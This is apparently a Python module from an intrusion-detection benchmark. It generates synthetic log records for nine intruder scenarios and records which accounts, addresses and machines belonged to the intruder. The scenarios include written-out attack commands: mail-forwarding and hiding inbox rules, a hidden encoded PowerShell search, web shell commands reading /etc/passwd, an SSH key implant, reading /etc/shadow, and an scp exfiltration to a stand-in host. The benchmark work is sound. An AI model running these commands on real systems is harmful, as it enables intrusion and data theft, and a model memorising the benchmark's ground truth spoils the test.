"""What an intruder does in a generated month, kind by kind, with the exact truth of the entities that were theirs."""

from __future__ import annotations

import base64
import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass, field

from scope.incidents.logs import Logs, from_address
from scope.incidents.office import FILE_SERVER, Office
from vigilia.demo.chance import Chance
from vigilia.demo.linux_record import LinuxSession, auth_line
from vigilia.demo.m365_record import AuditWriter, Visit
from vigilia.demo.record import Record
from vigilia.demo.web_record import access_line, encoded_shell
from vigilia.demo.windows_events import Logon, cleared, connected, logged_off, logged_on, opened, script, started, wrote
from vigilia.demo.windows_record import WindowsEvent

__all__ = ["HARD_KINDS", "KINDS", "Theirs"]

_KALI = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
_SCRIPTS = ("python-requests/2.32.3", "axios/1.7.9", "Go-http-client/2.0", _KALI)
_QUERIES = ("香港 名單", "活动人士 护照", "донор список", "قائمة المتبرعين", "Szeto", "password", "member list", "تبت")
_SHELL = "C:\\Windows\\System32\\cmd.exe"
_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


@dataclass
class Theirs:
    """The entities that were the intruder's."""

    accounts: set[str] = field(default_factory=set)
    addresses: set[str] = field(default_factory=set)
    machines: set[str] = field(default_factory=set)


def _visits(office: Office, chance: Chance, most: int = 8) -> list[dt.date]:
    """Return the days of the intruder's visits; the first is in the month's second half of the first week or later."""
    return chance.some(list(office.days())[4:24], chance.whole(3, most))


def _when(office: Office, chance: Chance, day: dt.date) -> dt.datetime:
    """Some work in their own office hours, which are our night; some at any time."""
    return office.night(chance, day) if chance.happens(0.7) else chance.moment(day, 0, 23)


def _hide(writer: AuditWriter, chance: Chance, at: dt.datetime, visit: Visit) -> Record:
    name = chance.pick([".", "..", "Архив", "系统"])
    return writer.command(
        at, visit, "New-InboxRule", name, Name=name, MoveToFolder="RSS Feeds", MarkAsRead="True",
        SubjectOrBodyContainsWords="security alert;unusual sign-in;password",
    )  # fmt: skip


def _send_on(writer: AuditWriter, at: dt.datetime, visit: Visit) -> Record:
    return writer.command(
        at, visit, "New-InboxRule", ".", Name=".", ForwardTo="archive@collect.example",
        SubjectOrBodyContainsWords="affidavit;witness",
    )  # fmt: skip


def _mailbox_work(logs: Logs, chance: Chance, at: dt.datetime, visit: Visit, mailbox: str) -> dt.datetime:
    """Search, read and fetch for a while; return when it ended."""
    writer = AuditWriter(chance)
    for _ in range(chance.whole(1, 3)):
        at = chance.later(at, 60, 600)
        logs.cloud.append(writer.searched(at, visit, chance.pick(_QUERIES), "Exchange"))
        for _ in range(chance.whole(1, 4)):
            at = chance.later(at, 20, 200)
            messages = [f"{chance.digits(16)}@hearth.example" for _ in range(chance.whole(2, 9))]
            logs.cloud.append(writer.read_mail(at, visit, mailbox, messages, "Inbox"))
    for _ in range(chance.whole(0, 3)):
        at = chance.later(at, 10, 120)
        logs.cloud.append(writer.file(at, visit, "FileDownloaded", "Team", "Donors/Liste des donateurs.xlsx"))
    return at


def mailbox_takeover(logs: Logs, office: Office, chance: Chance) -> Theirs:
    """A guessed password: sign-ins of the intruder's own from hired addresses, a hiding rule, perhaps two accounts."""
    writer, victims = AuditWriter(chance), chance.some(office.staff[1:], chance.whole(1, 2))
    theirs = Theirs()
    agent, addresses = chance.pick(_SCRIPTS), office.foreign[: chance.whole(1, 2)]
    for victim in victims:
        for number, day in enumerate(_visits(office, chance)):
            address = chance.pick(addresses)
            visit = Visit(victim.mail, address, agent, chance.guid(), intruder=True)
            at = _when(office, chance, day)
            logs.cloud.append(writer.signed_in(at, visit))
            if number == 0:
                logs.cloud.append(_hide(writer, chance, chance.later(at, 60, 300), visit))
            _mailbox_work(logs, chance, at, visit, victim.mail)
            theirs.accounts.add(victim.mail)
            theirs.addresses.add(address)
    return theirs


def takeover_with_common_programs(logs: Logs, office: Office, chance: Chance) -> Theirs:
    """A guessed password, and a browser that much of the staff uses: only places, hours and a lasting rule tell."""
    writer, victim = AuditWriter(chance), office.staff[chance.whole(1, len(office.staff) - 1)]
    agent, theirs = chance.pick([one.agent for one in office.staff]), Theirs(accounts={victim.mail})
    for number, day in enumerate(sorted(_visits(office, chance))):
        address = office.foreign[number % 2]
        visit = Visit(victim.mail, address, agent, chance.guid(), intruder=True)
        at = _when(office, chance, day)
        logs.cloud.append(writer.signed_in(at, visit))
        if number < 2:
            logs.cloud.append(_send_on(writer, chance.later(at, 60, 300), visit))
        _mailbox_work(logs, chance, at, visit, victim.mail)
        theirs.addresses.add(address)
    return theirs


def files_taken_at_night(logs: Logs, office: Office, chance: Chance) -> Theirs:
    """A guessed password and the owner's very own program; nothing lasting: files downloaded by the dozen, at night."""
    writer, victim = AuditWriter(chance), office.staff[chance.whole(1, len(office.staff) - 1)]
    theirs = Theirs(accounts={victim.mail})
    for number, day in enumerate(sorted(_visits(office, chance))):
        address = office.foreign[number % 2]
        visit = Visit(victim.mail, address, victim.agent, chance.guid(), intruder=True)
        at = _when(office, chance, day)
        logs.cloud.append(writer.signed_in(at, visit))
        for file in range(chance.whole(35, 70)):
            at = chance.later(at, 3, 9)
            logs.cloud.append(writer.file(at, visit, "FileDownloaded", "Team", f"Cases/{day:%j}-{file}.docx"))
        theirs.addresses.add(address)
    return theirs


def stolen_token(logs: Logs, office: Office, chance: Chance) -> Theirs:
    """The owner's own session from elsewhere: no sign-in, other addresses and program, then a consent."""
    writer, victim = AuditWriter(chance), office.staff[chance.whole(2, len(office.staff) - 1)]
    theirs = Theirs(accounts={victim.mail})
    for number, day in enumerate(sorted(_visits(office, chance))):
        session = Chance(day.toordinal() // 7, f"{office.seed} {victim.name}").guid()
        address = chance.pick(office.foreign)
        visit = Visit(victim.mail, address, _KALI, session, intruder=True)
        at = _when(office, chance, day)
        if number == 0:
            changes = {
                "ConsentContext.IsAdminConsent": "False",
                "ConsentAction.Permissions": "Scope: Mail.Read Files.Read.All offline_access",
            }
            logs.cloud.append(writer.directory(at, visit, "Consent to application.", "Mail Sync", **changes))
        if number == 1:
            logs.cloud.append(_hide(writer, chance, at, visit))
        _mailbox_work(logs, chance, at, visit, victim.mail)
        theirs.addresses.add(address)
    return theirs


def consented_application(logs: Logs, office: Office, chance: Chance) -> Theirs:
    """A consent by trickery from the intruder's address; afterwards an application reads the mailbox."""
    writer, victim = AuditWriter(chance), office.staff[2]
    address = office.foreign[0]
    visit = Visit(victim.mail, address, chance.pick(_SCRIPTS), chance.guid(), intruder=True)
    days = sorted(_visits(office, chance))
    at = _when(office, chance, days[0])
    logs.cloud.append(writer.signed_in(at, visit))
    changes = {
        "ConsentContext.IsAdminConsent": "False",
        "ConsentAction.Permissions": "Scope: Mail.ReadWrite offline_access",
    }
    logs.cloud.append(
        writer.directory(chance.later(at, 30, 90), visit, "Consent to application.", "PDF Desk", **changes)
    )
    application = chance.guid()
    for day in days[1:]:
        through = Visit(victim.mail, address, "", chance.guid(), intruder=True, application=application)
        _mailbox_work(logs, chance, _when(office, chance, day), through, victim.mail)
    return Theirs({victim.mail}, {address})


def from_the_office_network(logs: Logs, office: Office, chance: Chance) -> Theirs:
    """A stolen account used through the office's own address: only hours, program and deeds tell it from its owner."""
    writer, victim = AuditWriter(chance), office.staff[3]
    agent = chance.pick(_SCRIPTS)
    for day in _visits(office, chance):
        visit = Visit(victim.mail, office.egress, agent, chance.guid(), intruder=True)
        at = office.night(chance, day)
        logs.cloud.append(writer.signed_in(at, visit))
        logs.cloud.append(_hide(writer, chance, chance.later(at, 60, 300), visit))
        _mailbox_work(logs, chance, at, visit, victim.mail)
    return Theirs({victim.mail}, set())


def remote_access_and_on(logs: Logs, office: Office, chance: Chance) -> Theirs:
    """Remote desktop through the VPN at night, then on to the file server, sometimes with another account."""
    victim, pool = office.staff[chance.whole(1, 4)], chance.pick(office.vpn)
    theirs = Theirs({victim.name}, set(), {victim.workstation.split(".")[0].lower(), "fs01"})
    for number, day in enumerate(sorted(_visits(office, chance, 6))):
        at = office.night(chance, day)
        logon = Logon.new(chance, victim.workstation, victim.name, pool, 10, intruder=True)
        logs.windows += logged_on(logon, at, chance)
        moment = _look_around(logs, chance, logon, chance.later(at, 60, 200))
        if number == 0:
            logs.windows.append(wrote(logon, moment, chance, _POWERSHELL, "C:\\Users\\Public\\Libraries\\sync.exe"))
            logs.windows.append(_task(logon, chance.later(moment, 5, 20)))
        logs.windows.append(
            from_address(connected(logon, chance.later(moment, 5, 60), chance, _POWERSHELL, office.foreign[0], 443),
                         victim.inside))  # fmt: skip
        account, on = victim.name, chance.later(moment, 300, 900)
        if number % 2:
            account = "svc-backup"
            theirs.accounts.add(account)
            logs.windows.append(_other_credentials(logon, on, account))
        share = Logon.new(chance, FILE_SERVER, account, victim.inside, 3, intruder=True)
        on = chance.later(on, 1, 20)
        logs.windows += logged_on(share, on, chance, privileged=account != victim.name)
        logs.windows += opened(
            share, chance.later(on, 1, 9), chance, "Team", ["Donors/List.xlsx", "Cases/訪談記錄.docx"]
        )
        if account == "svc-backup" and chance.happens(0.5):
            logs.windows.append(cleared(share, chance.later(on, 200, 500)))
        logs.windows.append(logged_off(share, chance.later(on, 600, 900)))
        logs.windows.append(logged_off(logon, chance.later(at, 5200, 9000)))
    return theirs


def _look_around(logs: Logs, chance: Chance, logon: Logon, at: dt.datetime) -> dt.datetime:
    for image, command in (
        ("C:\\Windows\\System32\\whoami.exe", "whoami /all"),
        ("C:\\Windows\\System32\\net.exe", "net view \\\\FS01"),
        ("C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain'),
    ):
        at = chance.later(at, 20, 90)
        logs.windows += started(logon, at, chance, image, command, _SHELL)
    text = f"Get-ChildItem \\\\FS01\\Team -Recurse | Select-String -Pattern '{chance.pick(_QUERIES)}'"
    encoded = base64.b64encode(text.encode("utf-16-le")).decode()
    at = chance.later(at, 60, 200)
    command = f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}"
    logs.windows += started(logon, at, chance, _POWERSHELL, command, _SHELL)
    logs.windows.append(script(logon, chance.later(at, 0.3, 1), chance, text))
    return chance.later(at, 30, 60)


def _task(logon: Logon, at: dt.datetime) -> WindowsEvent:
    content = "<Task><Actions><Exec><Command>C:\\Users\\Public\\Libraries\\sync.exe</Command></Exec></Actions></Task>"
    return logon.event(at, 4698, logon.subject() | {"TaskName": "\\Sync", "TaskContent": content})


def _other_credentials(logon: Logon, at: dt.datetime, account: str) -> WindowsEvent:
    fields = logon.subject() | {
        "TargetUserName": account,
        "TargetDomainName": "HEARTH",
        "TargetServerName": "FS01",
        "TargetInfo": "FS01",
        "IpAddress": "-",
    }
    return logon.event(at, 4648, fields)


def web_shell(logs: Logs, office: Office, chance: Chance) -> Theirs:
    """A web shell on the site: requests from outside, commands as the web server's account in the same second.

    Neither log says which machine wrote it, so none can be named.
    """
    addresses = office.foreign[: chance.whole(1, 3)]
    page = f"/wp-content/uploads/2026/0{chance.whole(1, 3)}/{chance.pick(['img', 'cache', 'thumb'])}.php"
    agent = chance.pick(_SCRIPTS)
    theirs = Theirs({"www-data"})
    service = LinuxSession.of_service(33, "/var/www/html", intruder=True)
    for day in _visits(office, chance):
        at, address = _when(office, chance, day), chance.pick(addresses)
        theirs.addresses.add(address)
        commands = [
            "id",
            "uname -a",
            "cat /etc/passwd",
            "ls -la /home",
            f'grep -ril "{chance.pick(_QUERIES)}" /srv/archive',
        ]
        for command in chance.some(commands, chance.whole(2, 5)):
            at = chance.later(at, 8, 90)
            request = f"GET {page}?x={encoded_shell(command)}"
            logs.web.append(access_line(at, address, request, 200, 900, agent, intruder=True))
            logs.run(at + dt.timedelta(milliseconds=40), service, command)
    return theirs


def ssh_login(logs: Logs, office: Office, chance: Chance) -> Theirs:
    """A guessed or stolen login over SSH: password hashes read, a key added, an archive packed and sent out."""
    account, user = chance.pick([("deploy", 1004), ("ops", 1000)])
    theirs = Theirs({account}, set(), {"web01"})
    for number, day in enumerate(sorted(_visits(office, chance))):
        at, address = _when(office, chance, day), chance.pick(office.foreign[:2])
        theirs.addresses.add(address)
        if number == 0:
            for _ in range(chance.whole(0, 12)):
                at = chance.later(at, 1, 5)
                logs.guess(at, address, account, intruder=True)
        way = "password" if number == 0 else "publickey"
        login = logs.log_in(chance.later(at, 2, 9), account, user, address, way=way, intruder=True)
        if number == 0:
            logs.run(chance.later(at, 30, 60), login.session, f"tee -a /home/{account}/.ssh/authorized_keys")
        term = chance.pick(["donor", "Szeto", "member"])
        for command in ("id", "w", "cat /etc/crontab", f"grep -ril {term} /srv/archive",
                        "tar czf /tmp/.x.tgz /srv/archive", "scp /tmp/.x.tgz out@198.18.7.9:/in/"):  # fmt: skip
            at = chance.later(at, 20, 150)
            if chance.happens(0.8):
                logs.run(at, login.session, command)
        if chance.happens(0.5):
            text = f"{account} : TTY=pts/0 ; PWD=/home/{account} ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"
            logs.auth.append(auth_line(chance.later(at, 5, 20), "sudo", 0, text, intruder=True))
            theirs.accounts.add("root")
    return theirs


def several_ways(logs: Logs, office: Office, chance: Chance) -> Theirs:
    """One intruder in the cloud and on the web server, from the same hired addresses."""
    first, second = mailbox_takeover(logs, office, chance), web_shell(logs, office, chance)
    return Theirs(
        first.accounts | second.accounts, first.addresses | second.addresses, first.machines | second.machines
    )


KINDS: dict[str, Callable[[Logs, Office, Chance], Theirs]] = {
    one.__name__: one
    for one in (
        mailbox_takeover,
        takeover_with_common_programs,
        stolen_token,
        consented_application,
        from_the_office_network,
        remote_access_and_on,
        web_shell,
        ssh_login,
        several_ways,
    )
}

# Some of these cannot be told from honest work; the bench measures how many are found.
HARD_KINDS: dict[str, Callable[[Logs, Office, Chance], Theirs]] = {files_taken_at_night.__name__: files_taken_at_night}
